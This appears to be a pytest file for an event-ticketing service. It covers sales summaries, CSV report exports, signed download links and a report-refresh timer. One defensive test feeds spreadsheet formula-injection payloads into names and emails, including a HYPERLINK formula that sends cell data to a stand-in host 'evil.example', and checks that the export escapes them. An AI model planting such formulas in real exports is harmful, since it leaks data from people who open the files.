"""What was sold (R-SALES-1 to R-SALES-4): a summary that is never stale for long, and exports that add up."""

import csv
import hashlib
import io
import json
from datetime import timedelta
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import redis

from shared.kit.clock import utc_now
from tests.architecture.application import load
from tests.factories import (
    UNKNOWN_ID,
    Evening,
    assert_problem,
    cancel_event,
    new_email,
    open_evening,
)


@pytest.fixture
def evening(client, issuer):
    return open_evening(client, issuer)


@pytest.fixture
def reports(app_environment):
    """The reports of the domain in this process, on the same database, cache and storage as the host."""
    yield load("shared.domain.sales.reports", app_environment)
    load("shared.kit.db.engine", app_environment).engine().dispose()


def summary(evening: Evening, **parameters: str) -> dict[str, Any]:
    path = f"{evening.packages}/sales-summary"
    answer = evening.client.get(path, params=parameters, headers=evening.headers)
    assert answer.status_code == 200, answer.text
    found: dict[str, Any] = answer.json()
    return found


def listed(evening: Evening) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = evening.client.get(f"{evening.path}/reports", headers=evening.headers).json()["items"]
    return items


def settled(evening: Evening, poll: Any) -> list[tuple[str, int, str]]:
    """Id, rows and hash of the event's reports, once none is being written; a timer's twin may write one again."""

    def ready() -> list[dict[str, Any]]:
        reports = listed(evening)
        assert [report["status"] for report in reports] == ["ready"] * len(reports)
        return reports

    return [(report["id"], report["rows"], report["sha256"]) for report in poll(ready, 30)]


def make_report(evening: Evening) -> dict[str, Any]:
    answer = evening.client.post(f"{evening.path}/reports", json={"kind": "sales"}, headers=evening.headers)
    assert answer.status_code == 201, answer.text
    made: dict[str, Any] = answer.json()
    return made


def download(evening: Evening, report: dict[str, Any]) -> httpx.Response:
    redirect = evening.client.get(f"{evening.path}/reports/{report['id']}/download", headers=evening.headers)
    assert redirect.status_code == 302, redirect.text
    assert redirect.headers["Cache-Control"] == "no-store"
    return httpx.get(redirect.headers["Location"], trust_env=False)


def rows_of(file: httpx.Response) -> list[dict[str, str]]:
    assert file.status_code == 200
    return list(csv.DictReader(io.StringIO(file.content.decode(), newline="")))


# --- the summary ----------------------------------------------------------------------------------------------------


def test_an_event_without_sales_has_a_summary_of_zeros(evening):
    found = summary(evening)
    assert found.pop("as_of").endswith("Z")
    assert found == {
        "total_revenue_cents": 0,
        "total_discount_cents": 0,
        "total_refunded_cents": 0,
        "total_fee_cents": 0,
        "total_tax_cents": 0,
        "tickets_sold": 0,
        "packages_sold": 0,
        "packages_sold_out": 0,
        "orders": 0,
        "currency": "USD",
    }


def test_the_summary_adds_up_what_was_sold(evening):
    seat = evening.package(price_cents=2_500, quantity_limit=3)
    gold = evening.package(price_cents=100_000, seats_per_package=10, is_sponsorship=True)
    evening.order((seat["id"], 2), (gold["id"], 1))
    evening.order((seat["id"], 1))
    found, sponsors = summary(evening), summary(evening, sponsorships_only="true")
    assert {name: found[name] for name in ("total_revenue_cents", "tickets_sold", "packages_sold", "orders")} == {
        "total_revenue_cents": 107_500,
        "tickets_sold": 13,
        "packages_sold": 4,
        "orders": 2,
    }
    assert found["packages_sold_out"] == 1
    assert (sponsors["total_revenue_cents"], sponsors["tickets_sold"], sponsors["orders"]) == (100_000, 10, 1)
    assert (sponsors["packages_sold"], sponsors["packages_sold_out"]) == (1, 0)


def test_the_summary_says_how_often_to_ask(evening):
    answer = evening.client.get(f"{evening.path}/ticket-packages/sales-summary", headers=evening.headers)
    assert answer.headers["X-Polling-Interval"] == "3000"


def test_a_sale_shows_within_three_seconds_though_the_summary_is_cached(evening, poll, redis_url):
    package = evening.package(price_cents=100)
    assert summary(evening)["orders"] == 0
    with redis.Redis.from_url(redis_url) as cache:
        assert cache.exists(f"sales-summary:{evening.id}:all")
    evening.order((package["id"], 1))
    poll(lambda: summary(evening)["total_revenue_cents"] == 100, 3)


def test_a_summary_that_somebody_spoilt_in_the_cache_is_computed_anew(evening, redis_url):
    evening.order((evening.package(price_cents=100)["id"], 1))
    for rubbish in (b"", b"{", b"null", b'{"as_of": "2026-01-01T00:00:00Z"}'):
        with redis.Redis.from_url(redis_url) as cache:
            cache.set(f"sales-summary:{evening.id}:all", rubbish)
        assert summary(evening)["total_revenue_cents"] == 100


def test_tickets_sold_stay_sold_when_later_packages_have_more_seats(evening, poll):
    package = evening.package(seats_per_package=2)
    evening.order((package["id"], 3))
    evening.patch_package(package["id"], {"seats_per_package": 10})
    poll(lambda: summary(evening)["tickets_sold"] == 6, 3)


def test_a_cancelled_event_keeps_its_summary(client, evening):
    evening.order((evening.package(price_cents=100)["id"], 1))
    cancel_event(client, evening.token, evening.id)
    assert summary(evening)["total_revenue_cents"] == 100


# --- reports --------------------------------------------------------------------------------------------------------


def test_a_report_made_now_is_listed_and_holds_every_ticket(evening):
    table = evening.package(name="Table", price_cents=1_000, seats_per_package=3)
    seat = evening.package(name="Seat", price_cents=2_599)
    first = evening.order((table["id"], 1), (seat["id"], 1), customer={"name": "Ada", "email": "ada@example.com"})
    second = evening.order((seat["id"], 1), customer={"name": "Bob, the “builder”", "email": "bob@example.com"})
    report = make_report(evening)
    assert (report["kind"], report["status"], report["rows"], report["error"]) == ("sales", "ready", 5, None)
    assert report["created_at"] <= report["finished_at"]
    assert report in listed(evening)
    file = download(evening, report)
    assert (len(file.content), hashlib.sha256(file.content).hexdigest()) == (report["bytes"], report["sha256"])
    assert file.headers["Content-Disposition"].startswith('attachment; filename="sales-')
    assert file.text.splitlines()[0] == (
        "package_name,purchaser_name,purchaser_email,purchase_date,guest_name,guest_email,"
        "promo_code,discount_applied,final_price"
    )

    def row(order: dict[str, Any], package: str, price: str) -> dict[str, str]:
        return {
            "package_name": package,
            "purchaser_name": order["customer"]["name"],
            "purchaser_email": order["customer"]["email"],
            "purchase_date": order["created_at"][:19] + "Z",
            "guest_name": "",
            "guest_email": "",
            "promo_code": "",
            "discount_applied": "0.00",
            "final_price": price,
        }

    assert rows_of(file) == [
        row(first, "Table", "3.34"),
        row(first, "Table", "3.33"),
        row(first, "Table", "3.33"),
        row(first, "Seat", "25.99"),
        row(second, "Seat", "25.99"),
    ]


def test_the_prices_of_a_report_add_up_to_the_revenue(evening):
    for price, seats, quantity in ((1, 3, 1), (9_999, 7, 3), (100, 6, 5), (0, 4, 1), (12_345, 1, 1)):
        evening.order((evening.package(price_cents=price, seats_per_package=seats)["id"], quantity))
    rows = rows_of(download(evening, make_report(evening)))
    cents = [int(row["final_price"].replace(".", "")) for row in rows]
    assert (len(rows), sum(cents)) == (3 + 21 + 30 + 4 + 1, 1 + 3 * 9_999 + 500 + 0 + 12_345)
    assert summary(evening)["total_revenue_cents"] == sum(cents)


@pytest.mark.parametrize(("currency", "cents", "written"), [("JPY", 5_000, "5000"), ("KWD", 5, "0.005")])
def test_amounts_have_the_digits_of_their_currency(currency, cents, written, client, issuer):
    evening = open_evening(client, issuer, currency=currency)
    evening.order((evening.package(price_cents=cents)["id"], 1))
    assert [row["final_price"] for row in rows_of(download(evening, make_report(evening)))] == [written]


def test_what_a_spreadsheet_would_run_is_only_text_in_a_report(evening):
    formula = '=HYPERLINK("https://evil.example?"&A1,"click")'
    named = {formula: f"'{formula}", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "a=b": "a=b", "1-1": "1-1"}
    for name in named:
        package = evening.package(name=name)
        evening.order((package["id"], 1), customer={"name": name, "email": f"=cmd-{new_email()}"})
    rows = rows_of(download(evening, make_report(evening)))
    assert [row["package_name"] for row in rows] == list(named.values())
    assert [row["purchaser_name"] for row in rows] == list(named.values())
    assert all(row["purchaser_email"].startswith("'=cmd-") for row in rows)


def test_a_report_without_sales_is_a_header(evening):
    report = make_report(evening)
    assert (report["status"], report["rows"]) == ("ready", 0)
    assert rows_of(download(evening, report)) == []
    assert len(download(evening, report).text.splitlines()) == 1


def test_reports_are_listed_the_newest_first(evening):
    made = [make_report(evening)["id"] for _ in range(3)]
    assert [report["id"] for report in listed(evening)] == made[::-1]


def test_the_file_of_a_report_opens_by_its_link_alone(evening):
    evening.order((evening.package()["id"], 1))
    report = make_report(evening)
    path = f"{evening.path}/reports/{report['id']}/download"
    link = evening.client.get(path, headers=evening.headers).headers["Location"]
    assert httpx.get(link, trust_env=False).status_code == 200
    assert httpx.get(link.partition("?")[0], trust_env=False).status_code in {403, 404, 409}
    assert httpx.put(link, content=b"mine", headers={"x-ms-blob-type": "BlockBlob"}, trust_env=False).status_code == 403
    assert httpx.delete(link, trust_env=False).status_code == 403
    lifetime = parse_qs(urlsplit(link).query)
    assert lifetime["sp"] == ["r"]
    assert lifetime["se"][0] > utc_now().strftime("%Y-%m-%dT%H:%M:%SZ")
    assert lifetime["se"][0] <= (utc_now() + timedelta(minutes=10)).strftime("%Y-%m-%dT%H:%M:%SZ")


def test_another_events_report_is_not_found(client, issuer, evening):
    theirs = open_evening(client, issuer)
    report = make_report(theirs)
    for report_id in (report["id"], UNKNOWN_ID):
        answer = client.get(f"{evening.path}/reports/{report_id}/download", headers=evening.headers)
        assert_problem(answer, 404, "report_not_found")
    assert listed(evening) == []


def test_a_report_that_is_not_ready_is_not_downloaded(evening, reports):
    report = reports.ReportOut(id=reports.new_id(), kind="sales", status="running", created_at=utc_now())
    reports._note(evening.event_id, report)
    answer = evening.client.get(f"{evening.path}/reports/{report.id}/download", headers=evening.headers)
    assert assert_problem(answer, 409, "report_not_ready")["report_status"] == "running"


def test_an_unknown_kind_of_report_is_refused(evening):
    answer = evening.client.post(f"{evening.path}/reports", json={"kind": "gossip"}, headers=evening.headers)
    assert_problem(answer, 422, "invalid_input")
    assert listed(evening) == []


# --- the timer ------------------------------------------------------------------------------------------------------


def test_the_timer_writes_one_report_a_sale_and_warms_the_cache(evening, host, worker_folder, poll, redis_url, reports):
    evening.order((evening.package(price_cents=4_200)["id"], 1))
    master = json.loads((worker_folder / "functions-keys.json").read_text())["master"]
    run_now = f"{host.url}/admin/functions/refresh_sales"
    assert httpx.post(run_now, json={}, trust_env=False).status_code == 401
    started = httpx.post(run_now, json={}, headers={"x-functions-key": master}, trust_env=False)
    assert started.status_code == 202
    [report] = settled(evening, poll)
    assert report[1] == 1
    assert [row["final_price"] for row in rows_of(download(evening, {"id": report[0]}))] == ["42.00"]
    with redis.Redis.from_url(redis_url) as cache:
        for which in ("all", "sponsorships"):
            assert cache.exists(f"sales-summary:{evening.id}:{which}")
        assert json.loads(cache.get(f"sales-summary:{evening.id}:all"))["total_revenue_cents"] == 4_200
    for _ in range(2):  # late, twice, beside itself: the sale has its report
        reports.refresh_all(now=utc_now(), at_most_every=timedelta(0))
    assert settled(evening, poll) == [report]


def test_a_report_is_due_after_a_new_sale_but_not_too_often(evening, reports, poll):
    package = evening.package(price_cents=100)
    evening.order((package["id"], 1))
    reports.refresh_all(now=utc_now(), at_most_every=timedelta(0))
    [first] = settled(evening, poll)
    evening.order((package["id"], 1))
    due = {
        every: reports._is_due(evening.event_id, reports.new_id(), now=utc_now(), at_most_every=every)
        for every in (timedelta(hours=1), timedelta(0))
    }
    assert due == {timedelta(hours=1): False, timedelta(0): True}
    reports.refresh_all(now=utc_now(), at_most_every=timedelta(0))
    newest, *others = settled(evening, poll)
    assert (newest[1], others) == (2, [first])


def test_an_export_that_fails_shows_as_failed_and_is_made_again(evening, reports, monkeypatch):
    evening.order((evening.package(price_cents=100)["id"], 1))
    report_id = reports.new_id()

    def break_down(*_: object, **__: object) -> None:
        raise OSError("the disk is full of secrets")

    with monkeypatch.context() as broken:
        broken.setattr(reports.blobs, "put_stream", break_down)
        failed = reports.make_report(evening.event_id, now=utc_now(), report_id=report_id)
    assert (failed.status, failed.rows, failed.sha256) == ("failed", None, None)
    assert "secrets" not in failed.error
    shown = next(report for report in listed(evening) if report["id"] == str(report_id))
    assert shown["status"] == "failed"
    assert reports._is_due(evening.event_id, report_id, now=utc_now(), at_most_every=timedelta(hours=1))
    mended = reports.make_report(evening.event_id, now=utc_now(), report_id=report_id)
    assert (mended.status, mended.rows, mended.error) == ("ready", 1, None)


def test_an_export_whose_maker_died_is_made_again_after_a_while(evening, reports):
    report_id, now = reports.new_id(), utc_now()
    reports._note(evening.event_id, reports.ReportOut(id=report_id, kind="sales", status="running", created_at=now))
    for minutes, due in ((1, False), (16, True)):
        later = now + timedelta(minutes=minutes)
        found = reports._is_due(evening.event_id, report_id, now=later, at_most_every=timedelta(0))
        assert found is due
